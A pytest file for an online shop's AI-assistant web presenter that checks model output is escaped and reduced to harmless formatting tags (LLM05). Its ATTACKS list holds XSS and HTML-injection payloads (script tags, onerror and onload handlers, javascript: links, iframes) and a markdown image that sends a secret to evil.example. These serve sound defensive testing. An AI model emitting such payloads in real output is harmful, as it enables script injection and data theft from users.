"""What a model wrote is somebody else's text: on the page it is words, never markup that does anything (LLM05)."""

from __future__ import annotations

import re

import pytest

from shop.assistant.web.presenter import html_of
from tests.assistant import upstream as wire
from tests.assistant.upstream import Upstream
from tests.support.clock import TestClock
from tests.support.people import SOFIA, ShopUnderTest

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a picture that phones home": "![x](https://evil.example/?q=secret)",
    "a picture in raw HTML": '<img src=x onerror="alert(1)">',
    "a javascript link": "[buy](javascript:alert(1))",
    "a link elsewhere": "[sign in](https://evil.example/sign-in)",
    "a bare address": "https://evil.example <https://evil.example>",
    "a form": '<form action="https://evil.example"><button>Confirm</button></form>',
    "a part of the page's own": '<hx-partial hx-target="#may">all allowed</hx-partial>',
    "an attribute": '<p hx-get="/sign-out" hx-trigger="load" style="position:fixed" onclick="x()" class="receipt">x</p>',
    "a frame": "<iframe srcdoc='<script>1</script>'></iframe>",
    "a style": "<style>*{display:none}</style>",
    "an unclosed tag": "<img src=x onerror=alert(1)//",
    "a code block's language": '```"><script>alert(1)</script>\ncode\n```',
    "a table's cell": "| a | b |\n|---|:-:|\n| <svg onload=alert(1)> | ![x](https://evil.example/) |",
    "a reference": "[x]\n\n[x]: javascript:alert(1)",
    "a data address": "![x](data:text/html;base64,PHNjcmlwdD4=)",
}
HARMLESS = {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote"} | {
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.holds("LLM05")
def test_what_a_model_wrote_becomes_harmless_tags_without_attributes(text: str) -> None:
    """Only tags that format text survive, and none has an attribute: nothing links, loads, runs or looks like the shop's own."""
    html = html_of(text)
    tags = re.findall(r"</?([a-z0-9-]+)([^>]*)>", html, re.I)
    assert {name for name, _ in tags} <= HARMLESS
    assert [attributes for _, attributes in tags if attributes.strip(" /")] == []


def test_markdown_that_formats_is_kept() -> None:
    """Emphasis, lists, code and tables are what a reply may use."""
    html = html_of("**Two** fit:\n\n- `a`\n- *b*\n\n| x |\n|---|\n| 1 |")
    for part in ("<strong>Two</strong>", "<li><code>a</code></li>", "<em>b</em>", "<td>1</td>"):
        assert part in html


@pytest.mark.holds("LLM05")
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_an_attack_reaches_no_page_alive(talking: ShopUnderTest, upstream: Upstream) -> None:
    """Text, tool names, arguments and titles are escaped in the stream, in a reload and in the audit view."""
    attack = '<img src=x onerror="alert(1)">'
    upstream.will(
        wire.calls((attack[:40], f'{{"query": "{attack}'), ("search_products", {"query": attack}), after=[attack]),
        wire.says(attack, "\n\n[x](javascript:alert(1))"),
    )
    sofia = talking.sign_in(SOFIA)
    stream = sofia.say(attack).html.splitlines()
    shown = "".join(
        line for line in stream if '"href"' not in line
    )  # but for the title as JSON, which the page sets as text
    shown += sofia.get(f"/assistant/{sofia.conversation}").text
    shown += sofia.get(f"/audit/conversations/{sofia.conversation}").text + sofia.get("/audit/").text
    assert "<img src=x" not in shown and 'href="javascript:' not in shown
    assert "&lt;img src=x" in shown


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_the_stream_shows_what_a_reload_shows(talking: ShopUnderTest, upstream: Upstream) -> None:
    """Empty lines inside a message and a block of code survive the event stream."""
    upstream.will(wire.says("```\none\n\ntwo\n```"))
    sofia = talking.sign_in(SOFIA)
    streamed = sofia.say("first line\n\nsecond line").html.replace("data: ", "")
    page = sofia.get(f"/assistant/{sofia.conversation}").text
    for kept in ("first line\n\nsecond line", "one\n\ntwo"):
        assert kept in streamed and kept in page


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_only_what_can_still_be_answered_says_that_it_waits(shop: ShopUnderTest, clock: TestClock) -> None:
    """A receipt that a newer one took the place of, or that has expired, does not leave its turn waiting for the person."""
    sofia = shop.sign_in(SOFIA)
    sofia.say("add a mug in ink")
    sofia.allow(sofia.latest_call("add_to_cart").id)
    for expected in (1, 1):
        sofia.say("check out")
        assert sofia.get(f"/assistant/{sofia.conversation}").text.count("waiting for you") == expected
    clock.pass_by(minutes=11)
    page = sofia.get(f"/assistant/{sofia.conversation}").text
    assert "waiting for you" not in page and "expired" in page
